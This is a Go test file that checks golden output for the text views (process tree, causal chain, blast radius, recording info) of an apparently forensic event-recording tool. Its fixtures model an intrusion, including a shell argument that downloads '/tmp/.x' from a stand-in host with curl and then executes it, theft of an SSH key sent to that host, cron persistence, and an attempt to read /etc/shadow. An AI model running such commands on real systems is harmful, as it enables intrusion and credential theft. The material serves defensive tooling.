package text

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"hindcast/format/clock"
	"hindcast/query/answer"
	"hindcast/query/plan"
)

var update = flag.Bool("update", false, "write the goldens")

// at gives 2026-11-02 03:20:00 UTC plus ms.
func at(ms int) answer.Time {
	return answer.Time{Boot: clock.Boot(ms) * 1e6, Wall: clock.Wall(1793589600*1e9 + int64(ms)*1e6)}
}

func after(ms int) *answer.Time {
	t := at(ms)
	return &t
}

func ref(kind, id, label string) answer.Ref { return answer.Ref{Kind: kind, ID: id, Label: label} }

var (
	php  = ref("process", "p:2c9a", "php-fpm(940)")
	sh   = ref("process", "p:7k3q", "sh(2411)")
	curl = ref("process", "p:7k3r", "curl(2412)")
	dotx = ref("process", "p:7k41", ".x(2415)")
	tmpx = ref("file", "f:9a2b", "/tmp/.x")
	web  = ref("remote", "203.0.113.9:443", "203.0.113.9:443")
	gaps = []answer.Gap{
		{Kind: "lost", CPU: 1, Count: 812, Text: "read: 812 lost on cpu 1 (ring_full)", From: at(-2000), To: at(1000), Evidence: []string{"0:99"}},
		{Kind: "not_attached", CPU: -1, Whole: true, Text: "hook io_uring_submit_req not attached: io_uring requests are not seen", From: at(0), To: at(9000)},
	}
)

func process(r answer.Ref, pid uint32, depth, parent int, from int, argv ...string) answer.Process {
	name, _, _ := strings.Cut(r.Label, "(")
	return answer.Process{Ref: r, PID: pid, Depth: depth, Parent: parent, Origin: "fork", From: at(from), Certainty: answer.Certain,
		Image:    answer.Image{Comm: name, Exe: "/usr/bin/" + name, Argv: argv, Cred: answer.Cred{Known: true, UID: 33, EUID: 33}},
		Evidence: []string{"0:5", "0:6"}}
}

func goldenTree() *answer.Tree {
	worker := func(n uint32, last int) answer.Process {
		p := process(ref("process", "p:aaa"+string(rune('0'+n)), "worker"), 900+n, 1, 0, -5000)
		p.Image.Argv = []string{"nginx: worker"}
		p.Origin = "snapshot"
		return p
	}
	root := process(ref("process", "p:0001", "nginx(812)"), 812, 0, -1, -9000, "nginx")
	root.Origin = "snapshot"
	s := process(sh, 2411, 1, 0, 2318, "sh", "-c", "id; curl -s http://203.0.113.9/.x -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x")
	s.To, s.ExitKnown, s.ExitCode = after(9000), true, 1
	c := process(curl, 2412, 2, 4, 3000, "curl", "-s")
	c.To, c.ExitKnown = after(4000), true
	c.Touched = &answer.Footprint{Written: []answer.Touch{{Ref: tmpx, Bytes: 49152}}, Peers: []answer.Touch{{Ref: web, In: 49600, Out: 80}}}
	x := process(dotx, 2415, 2, 4, 5000, "/tmp/.x")
	x.Image.Deleted, x.Image.Exe, x.Reparented, x.ParentInferred = true, "/tmp/.x", true, true
	k := process(ref("process", "p:9999", "killed(2500)"), 2500, 0, -1, 6000)
	k.Origin, k.To, k.ExitKnown, k.ExitSignal = "actor", after(7000), true, 9
	return &answer.Tree{Begin: at(-10000), End: at(9500), Total: 8, NotSeen: gaps,
		Processes: []answer.Process{root, worker(1, 0), worker(2, 0), worker(3, 1), s, c, x, k}}
}

func goldenChain() *answer.Chain {
	step := func(verb, title string, ms int, by answer.Ref, bytes uint64, c answer.Certainty, why string) answer.Step {
		return answer.Step{Verb: verb, Title: title, T0: at(ms), Actor: &by, Bytes: bytes, Certainty: c, Reason: why, Evidence: []string{"0:1", "0:2"}}
	}
	main := []answer.Step{
		step("exec", "/tmp/.x", 5114, sh, 0, answer.Certain, ""),
		step("write", "/tmp/.x", 4870, curl, 49152, answer.Certain, ""),
		step("recv", "203.0.113.9:443", 3902, curl, 49600, answer.Certain, ""),
		step("fork", "sh(2411)", 2318, php, 0, answer.Certain, ""),
		step("recv", "198.51.100.7:51022", 2301, php, 312, answer.Likely, "17 ms before"),
	}
	return &answer.Chain{Entity: dotx, At: at(5114), State: "ran", Steps: main, Stop: "remote end outside this host", Hidden: 3,
		Alternatives: []answer.Alternative{{Text: "another request was open", Of: 4, Steps: main[4:]}},
		Attributes:   []answer.Step{step("chmod", "/tmp/.x 0755", 4900, sh, 0, answer.Likely, "by name")},
		Hubs:         []answer.Ref{ref("file", "f:aaaa", "libc.so.6")}, Counts: []answer.Count{{Step: "hubs", NodesBefore: 90, NodesAfter: 12, EdgesBefore: 200, EdgesAfter: 20}}, NotSeen: gaps}
}

func goldenRadius() *answer.Radius {
	w := answer.Witness{Depth: 2, Strength: answer.Data, Certainty: answer.Certain, Steps: []answer.Step{{Verb: "fork", From: sh, To: dotx}, {Verb: "write", From: dotx, To: tmpx}}}
	r := &answer.Radius{Seed: sh, From: at(2318), Until: at(9500), Depth: 3, NotSeen: gaps, Hubs: []answer.Ref{ref("file", "f:aaaa", "libc.so.6")}}
	for i, p := range goldenTree().Processes[4:7] {
		r.Processes = append(r.Processes, answer.ReachedProcess{Process: p, Reached: at(2318 + i), Witness: w})
	}
	r.Files = []answer.FileEffect{{Ref: tmpx, Path: "/tmp/.x", What: []string{"created", "written", "deleted"}, By: []answer.Ref{curl, dotx}, Bytes: 49152, First: at(4870), Exists: "deleted",
		Later: []answer.Use{{Process: dotx, What: "exec", At: at(5114), Reached: true}, {Process: ref("process", "p:0601", "sshd(601)"), What: "read", At: at(9000)}}, Certainty: answer.Certain, Witness: w, Evidence: []string{"0:7"}}}
	r.Secrets = []answer.Secret{{Path: "/home/app/.ssh/id_rsa", What: "ssh private key", By: dotx, Bytes: 2602, At: at(5200), Certainty: answer.Certain, Witness: w,
		Egress: []answer.Egress{{Process: dotx, Peer: "203.0.113.9:8443", Bytes: 2602, At: at(5300)}}}}
	r.Persistence = []answer.Persistence{{Path: "/etc/cron.d/updater", What: "written", Kind: "cron", Technique: "T1053.003", By: dotx, At: at(5400), Certainty: answer.Certain, Witness: w}}
	r.Peers = []answer.Peer{{Address: "203.0.113.9:8443", Direction: "out", Proto: "tcp", By: []answer.Ref{dotx}, Sent: 1258291, Received: 12, ByteKnown: true, First: at(5250), Open: true, Certainty: answer.Certain, Witness: w},
		{Address: "10.0.3.8:53", Proto: "udp", Internal: true, By: []answer.Ref{curl}, First: at(3000), Tried: 2, Errors: []string{"ECONNREFUSED"}, Certainty: answer.Likely, Witness: w}}
	r.Privilege = []answer.Privilege{{Process: dotx, Before: answer.Cred{EUID: 33}, After: answer.Cred{EUID: 0, CapEff: 0x1ff}, How: "exec of a set-id file", Gained: true, At: at(6000), Certainty: answer.Certain}}
	r.Remaining = []answer.Remaining{{Kind: "process", Ref: dotx, Since: at(5000), Text: "no end was recorded"}}
	r.Attempts = []answer.Attempt{{Process: dotx, What: "open", Target: "/etc/shadow", Error: "EACCES", Count: 3, At: at(5500)}}
	return r
}

func goldenInfo() *plan.Info {
	return &plan.Info{Path: "web-3", Host: "web-3", Kernel: "6.12.9", Arch: "amd64", CPUs: 2, Boots: []string{"4f6f"}, Recorder: "0.1", Format: 1, Catalog: 1, Begin: at(-10000), End: at(9500),
		Segments: 13, Sealed: 12, Bytes: 43201331, Rows: 6204118, Snapshot: 9870, Recording: 40, Processes: 3912, Files: 18406, Peers: 212, LostTotal: 812, Snapshotted: true,
		Events:   []plan.EventCount{{Event: "fork", Family: "process", Rows: 4001}, {Event: "open", Family: "file", Rows: 5000000}, {Event: "ledger", Family: "recorder", Rows: 3}},
		Lost:     []plan.Loss{{Event: "read", Cause: "ring_full", Detail: []string{"bulk ring"}, Lost: 812, Seen: 41920, From: at(-2000), To: at(1000), CPUs: []int{1}, Rows: []string{"0:99"}}},
		Coverage: []plan.Hook{{Hook: "sys_exit_openat", Attached: true, Tier: 1, Detail: "open"}, {Hook: "io_uring_submit_req", Detail: "io_uring requests are not seen"}}, NotSeen: gaps}
}

// TestGoldens prints each view under the flags that the golden's name carries:
// tree--ascii-collapse.golden.
func TestGoldens(t *testing.T) {
	files, err := filepath.Glob("testdata/*.golden")
	if err != nil || len(files) == 0 {
		t.Fatal("no goldens", err)
	}
	for _, f := range files {
		name := strings.TrimSuffix(filepath.Base(f), ".golden")
		view, flags, _ := strings.Cut(name, "--")
		var o Options
		for _, fl := range strings.Split(flags, "-") {
			switch fl {
			case "":
			case "ascii":
				o.ASCII = true
			case "color":
				o.Color = true
			case "verbose":
				o.Verbose = true
			case "collapse":
				o.Collapse = true
			default:
				t.Fatalf("%s: unknown flag %s", f, fl)
			}
		}
		var b bytes.Buffer
		var err error
		switch view {
		case "tree":
			err = Tree(&b, goldenTree(), o)
		case "chain":
			err = Chain(&b, goldenChain(), o)
		case "radius":
			err = Radius(&b, goldenRadius(), o)
		case "info":
			err = Info(&b, goldenInfo(), o)
		case "drops":
			err = Drops(&b, goldenInfo(), o)
		default:
			t.Fatalf("%s: unknown view", f)
		}
		if err != nil {
			t.Fatal(err)
		}
		if *update {
			if err := os.WriteFile(f, b.Bytes(), 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(b.Bytes(), want) {
			t.Errorf("%s:\n%s\nwant:\n%s", f, b.String(), want)
		}
	}
}
